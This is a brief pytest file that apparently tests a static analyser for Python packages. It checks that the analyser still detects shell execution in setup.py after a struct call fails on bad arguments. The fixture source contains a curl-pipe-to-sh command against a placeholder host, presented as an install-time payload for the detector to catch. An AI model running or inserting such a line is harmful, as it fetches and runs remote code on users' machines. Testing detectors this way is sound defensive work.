"""Library functions that refuse their arguments are no end of the evaluation."""

import pytest

from tests.code import reading


@pytest.mark.parametrize(
    "call", ["struct.pack('4s', 1)", "struct.pack('q', 'a')", "struct.unpack('I', b'a')"]
)
def test_a_refused_argument_leaves_the_rest_to_be_read(call):
    source = f"import os, struct\nx = {call}\nos.system('curl https://a.invalid/x | sh')\n"
    found = reading.facts({"setup.py": source}, {"setup.py": "install"}, "sdist")
    assert "exec/shell" in found
